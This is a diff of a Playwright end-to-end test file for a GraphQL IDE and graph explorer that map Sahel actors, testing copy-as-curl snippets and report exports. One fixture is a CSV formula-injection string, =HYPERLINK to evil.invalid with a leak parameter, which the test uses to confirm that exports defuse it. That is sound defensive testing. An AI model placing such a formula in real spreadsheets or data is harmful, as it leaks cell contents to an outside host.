@@ -1,8 +1,12 @@
+import { execFile } from 'node:child_process';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
+import { promisify } from 'node:util';
+import { parse } from 'csv-parse/sync';
 import type { Page } from 'playwright-core';
 import { readmeExamples } from '../../tools/web/readme-examples';
 import { startTestApp, TEST_KEYS } from '../support/app';
+import { gql } from '../support/http';
 import { launchBrowser, type TestBrowser } from '../support/browser';
 import { useSeededApp } from '../support/seeded-app';
 
@@ -16,12 +20,18 @@ import { useSeededApp } from '../support/seeded-app';
 declare const document: {
   body: { dataset: Record<string, string | undefined> };
   querySelector(selector: string): { textContent: string | null } | null;
-  querySelectorAll(selector: string): { length: number };
+  querySelectorAll(selector: string): { length: number; [index: number]: CodeMirrorHost };
   addEventListener(type: 'securitypolicyviolation', listener: (event: { violatedDirective: string }) => void): void;
 };
 declare const location: { search: string };
+declare const navigator: { clipboard: { readText(): Promise<string> } };
+/** A CodeMirror 5 editor's wrapper element carries its editor (GraphiQL's editors are CodeMirror 5). */
+interface CodeMirrorHost {
+  CodeMirror?: { setValue(text: string): void };
+}
 declare const localStorage: { length: number };
 declare const window: unknown;
+declare function getComputedStyle(element: unknown): { borderCollapse: string };
 
 const README = readFileSync(path.join(__dirname, '..', '..', 'README.md'), 'utf8');
 
@@ -133,6 +143,108 @@ describe('the GraphQL IDE at /graphql', () => {
   });
 });
 
+describe('copy as curl / fetch in the IDE', () => {
+  const run = promisify(execFile);
+
+  /** Runs a copied fetch() snippet in this Node process and returns what it printed. */
+  async function runFetchSnippet(snippet: string): Promise<unknown> {
+    const printed: string[] = [];
+    const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor as new (
+      ...args: string[]
+    ) => (console: { log(text: string): void }) => Promise<void>;
+    await new AsyncFunction('console', snippet)({ log: (text: string) => printed.push(text) });
+    expect(printed).toHaveLength(1);
+    return JSON.parse(printed[0] ?? 'null');
+  }
+
+  /**
+   * Sets the query and variables editors of the tab, once GraphiQL has made them (its CodeMirror
+   * editors load asynchronously): the variables editor is the first of the editor tools.
+   */
+  async function setEditors(page: Page, values: { query?: string; variables?: string }): Promise<void> {
+    await page.waitForFunction(
+      () =>
+        document.querySelectorAll('.graphiql-query-editor .CodeMirror').length === 1 &&
+        document.querySelectorAll('.graphiql-editor-tool .CodeMirror').length === 2,
+    );
+    await page.evaluate(({ query, variables }) => {
+      if (query !== undefined)
+        document.querySelectorAll('.graphiql-query-editor .CodeMirror')[0]?.CodeMirror?.setValue(query);
+      if (variables !== undefined)
+        document.querySelectorAll('.graphiql-editor-tool .CodeMirror')[0]?.CodeMirror?.setValue(variables);
+    }, values);
+  }
+
+  it("copies the tab's operation, variables and key as a curl command and a fetch snippet that both get the IDE's answer", async () => {
+    const locked = await startTestApp(fixture.db, { ANONYMOUS_READS: 'false' });
+    try {
+      await browser.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: locked.base });
+      const page = await browser.newPage();
+      // The key typed in the explorer fills the IDE's headers editor for this browser session.
+      await page.goto(`${locked.base}/`);
+      await settled(page);
+      await page.fill('#credential-value', TEST_KEYS.reader);
+      await page.keyboard.press('Enter');
+      await settled(page);
+      await page.goto(locked.url);
+      await page.locator('.graphiql-container').waitFor();
+      // Named as the tab's README example ("Entity"): GraphiQL re-reads the operation name when the
+      // cursor moves, which a programmatic edit does not do.
+      const query = 'query Entity($id: ID!) { entity(id: $id) { id name } }';
+      await setEditors(page, { query, variables: '{ "id": "aes" }' });
+      await page.locator('.graphiql-execute-button').click();
+      await page.waitForFunction(() =>
+        /"(data|errors)"/.test(document.querySelector('.result-window')?.textContent ?? ''),
+      );
+      expect(await page.locator('.result-window').innerText()).toContain('Alliance of Sahel States');
+      const expected = await gql(locked.url, query, { id: 'aes' }, 20_000, { 'x-api-key': TEST_KEYS.reader });
+      expect(expected.body).toEqual({ data: { entity: { id: 'aes', name: 'Alliance of Sahel States' } } });
+
+      await page.getByRole('button', { name: 'Copy as curl / fetch' }).click();
+      const dialog = page.locator('dialog.ide-snippets');
+      await dialog.waitFor();
+      await dialog.getByRole('button', { name: 'Copy curl' }).click();
+      await dialog.getByText('curl command copied to the clipboard.').waitFor();
+      const curl = await page.evaluate(() => navigator.clipboard.readText());
+      expect(curl).toBe(await page.locator('#snippet-curl').innerText());
+      expect(curl).toContain(`-H 'x-api-key: ${TEST_KEYS.reader}'`);
+      expect(curl).toContain('"operationName":"Entity"');
+      const curled = await run('sh', ['-c', curl], { timeout: 20_000 });
+      expect(JSON.parse(curled.stdout)).toEqual(expected.body);
+      // Without the key's header the same command is refused: the key is what the snippet carries.
+      const keyless = curl.replace(/ \\\n {2}-H 'x-api-key: [^']*'/, '');
+      expect(keyless).not.toContain('x-api-key');
+      expect(JSON.parse((await run('sh', ['-c', keyless], { timeout: 20_000 })).stdout)).toMatchObject({
+        errors: [{ extensions: { code: 'UNAUTHENTICATED' } }],
+      });
+
+      await dialog.getByRole('button', { name: 'Copy fetch' }).click();
+      await dialog.getByText('fetch snippet copied to the clipboard.').waitFor();
+      const snippet = await page.evaluate(() => navigator.clipboard.readText());
+      expect(snippet).toBe(await page.locator('#snippet-fetch').innerText());
+      expect(snippet).toMatch(/^const response = await fetch\("http:\/\/127\.0\.0\.1:\d+\/graphql", \{/);
+      expect(await runFetchSnippet(snippet)).toEqual(expected.body);
+      await browser.screenshot(page, 'ide-copy-as-code');
+      await page.close();
+    } finally {
+      await browser.context.clearPermissions();
+      await locked.stop();
+    }
+  });
+
+  it('says what is wrong instead of a snippet when the variables are not a JSON object', async () => {
+    const page = await browser.newPage();
+    await page.goto(fixture.app.url);
+    await page.locator('.graphiql-container').waitFor();
+    await setEditors(page, { variables: '[1, 2' });
+    await page.getByRole('button', { name: 'Copy as curl / fetch' }).click();
+    const dialog = page.locator('dialog.ide-snippets');
+    expect(await dialog.locator('.ide-snippets-problem').innerText()).toBe('Variables must be a JSON object.');
+    expect(await dialog.locator('pre').count()).toBe(0);
+    await page.close();
+  });
+});
+
 describe('the graph explorer at /', () => {
   it('finds Ukraine by "Kiev", expands it, and shows the Ukraine–JNIM path with the allegation hop marked contested and its source', async () => {
     const page = await browser.newPage();
@@ -231,24 +343,137 @@ describe('the graph explorer at /', () => {
     await page.close();
   });
 
-  it('exports the view as PNG, SVG and a bundle', async () => {
+  it('exports a report: the picture with title, date, filters and legend, the evidence of every link in view as CSV and as a printable page', async () => {
+    // A link whose excerpt a hostile source wrote: quotes, commas, a line break and a formula.
+    const hostile = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click"), said "they",\nthen left';
+    const added = await gql(
+      fixture.app.url,
+      'mutation($r: RelationshipInput!) { addRelationship(relationship: $r) { id } }',
+      {
+        r: {
+          type: 'AFFILIATED_WITH',
+          from: 'ukrainian-intelligence',
+          to: 'ukraine',
+          sourceIds: ['wellbrock-mali-blockade'],
+          credibility: 6,
+          excerpt: hostile,
+        },
+      },
+      20_000,
+      { 'x-api-key': TEST_KEYS.editor },
+    );
+    expect(added.body.errors).toBeUndefined();
+
     const page = await browser.newPage();
-    await page.goto(`${fixture.app.base}/?expand=ukraine`);
+    await page.goto(`${fixture.app.base}/?expand=ukraine&from=ukraine&to=jnim`);
     await settled(page);
+    await page.locator('#path-panel .path.best .hop').first().waitFor();
+    const title = 'Ukraine & JNIM: who says so <draft>';
+    await page.fill('#export-title', title);
     const save = async (button: string) => {
       const [download] = await Promise.all([page.waitForEvent('download'), page.click(button)]);
-      const file = await download.path();
-      return readFileSync(file);
+      return readFileSync(await download.path());
     };
+    const texts = (svg: string) =>
+      [...svg.matchAll(/<text[^>]*>([^<]*)<\/text>/g)].map((match) =>
+        (match[1] ?? '')
+          .replace(/&lt;/g, '<')
+          .replace(/&gt;/g, '>')
+          .replace(/&quot;/g, '"')
+          .replace(/&#39;/g, "'")
+          .replace(/&amp;/g, '&'),
+      );
+
+    // The SVG: real text for the title, the date, each filter and each legend entry, around the drawing.
+    const svg = (await save('#export-svg')).toString('utf8');
+    expect(svg).toMatch(/^<svg[\s\S]*<svg[\s\S]*<\/svg>\s*$/);
+    const words = texts(svg);
+    expect(words[0]).toBe(title);
+    expect(words[1]).toMatch(/^Exported from sahel-graph on \d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC$/);
+    expect(words).toEqual(
+      expect.arrayContaining([
+        'Relationship types: all but evidence links',
+        'Minimum credibility: any',
+        'As of: any time (no date filter)',
+        'Path: Ukraine → JNIM',
+        'Expanded: Ukraine',
+        'Legend',
+        'actor',
+        'allegation',
+        'reported link',
+        '◇ claim (not an established fact)',
+        '◆ contested claim (denied or disputed)',
+        'shortest path (best-evidenced)',
+      ]),
+    );
+    // The PNG is the same picture rasterised at twice the size: wider than the legend's minimum.
     const png = await save('#export-png');
     expect([...png.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
-    expect(png.length).toBeGreaterThan(5_000);
-    const svg = (await save('#export-svg')).toString('utf8');
-    expect(svg).toMatch(/<svg[\s\S]*<\/svg>\s*$/);
-    const bundle = JSON.parse((await save('#export-bundle')).toString('utf8')) as {
-      format: string;
-      actors?: Array<{ id: string }>;
-    };
+    expect(png.readUInt32BE(16)).toBeGreaterThanOrEqual(1440);
+
+    // The CSV: one row per link in view, each with its sentence, grade(s), sources and excerpt.
+    const drawn = await drawing(page);
+    const csvText = (await save('#export-csv')).toString('utf8');
+    const [header, ...rows] = parse(csvText, { bom: true }) as string[][];
+    expect(header).toEqual([
+      'Link',
+      'Not an established fact',
+      "Claim's grade (what the claim says)",
+      "Grade (for a claim: the report's, that the claim was made)",
+      'Sources (reliability)',
+      'Excerpt',
+      'Valid',
+      'Relationship id',
+    ]);
+    const cell = (row: string[] | undefined, name: string) => row?.[header!.indexOf(name)] ?? '';
+    expect(rows.map((row) => cell(row, 'Relationship id')).sort()).toEqual(drawn.edges.map((edge) => edge.id).sort());
+    for (const row of rows) {
+      expect(cell(row, 'Link')).not.toBe('');
+      expect(cell(row, "Grade (for a claim: the report's, that the claim was made)")).toMatch(/^credibility [1-6]: /);
+      expect(cell(row, 'Sources (reliability)')).toMatch(/, reliability [A-F]: /);
+    }
+    const byId = (id: string) => rows.find((row) => cell(row, 'Relationship id') === id);
+    // The best path's hops first, in the API's words; the claim link with both grades.
+    expect(cell(rows[0], 'Link')).toMatch(
+      /^Ukraine denies Russia's allegation that Ukrainian intelligence is supporting the militants/,
+    );
+    const claim = byId('CONCERNS:russia-accuses-ukrainian-intelligence->jnim');
+    expect(cell(claim, "Claim's grade (what the claim says)")).toBe('credibility 6: truth cannot be judged');
+    expect(cell(claim, "Grade (for a claim: the report's, that the claim was made)")).toBe(
+      'credibility 3: possibly true',
+    );
+    expect(cell(claim, 'Not an established fact')).toBe('◆ contested claim (denied or disputed)');
+    expect(cell(claim, 'Sources (reliability)')).toContain('Mali Suffering from Jihadist Economic Blockade');
+    // The hostile excerpt stays one cell, with its quotes, comma and line break, defused by a leading '.
+    const affiliation = byId('AFFILIATED_WITH:ukrainian-intelligence->ukraine');
+    expect(cell(affiliation, 'Excerpt')).toBe(`'${hostile}`);
+    expect(csvText).toContain(`"'=HYPERLINK(""http://evil.invalid/?leak=""&A1,""click""), said ""they"",\nthen left"`);
+    expect(rows.flat().filter((value) => /^[=+\-@\t\r]/.test(value))).toEqual([]);
+
+    // The printable page: stands alone, styled by its own hashed stylesheet, no script.
+    const html = (await save('#export-html')).toString('utf8');
+    expect(html).not.toMatch(/<script/i);
+    const report = await browser.newPage();
+    await report.setContent(html);
+    expect(await report.locator('h1').innerText()).toBe(title);
+    expect(await report.locator('tbody tr').count()).toBe(rows.length);
+    expect(await report.locator('.filters li').allInnerTexts()).toContain('Path: Ukraine → JNIM');
+    expect(await report.locator('td.excerpt').allTextContents()).toContain(hostile);
+    expect(await report.locator('table').evaluate((table) => getComputedStyle(table).borderCollapse)).toBe('collapse');
+    expect(
+      await report.locator('figure img').evaluate((image: { naturalWidth: number }) => image.naturalWidth),
+    ).toBeGreaterThan(700);
+    await browser.screenshot(report, 'explorer-evidence-page');
+    await report.close();
+
+    // A filter in force is printed as it is set.
+    await page.selectOption('#min-credibility', '3');
+    await page.waitForFunction(() => new URLSearchParams(location.search).get('minCredibility') === '3');
+    await settled(page);
+    expect(texts((await save('#export-svg')).toString('utf8'))).toContain(
+      'Minimum credibility: credibility 3: possibly true, or better',
+    );
+    const bundle = JSON.parse((await save('#export-bundle')).toString('utf8')) as { format: string };
     expect(bundle.format).toBe('sahel-graph-bundle');
     expect(JSON.stringify(bundle)).toContain('"ukrainian-intelligence"');
     await browser.screenshot(page, 'explorer-export');
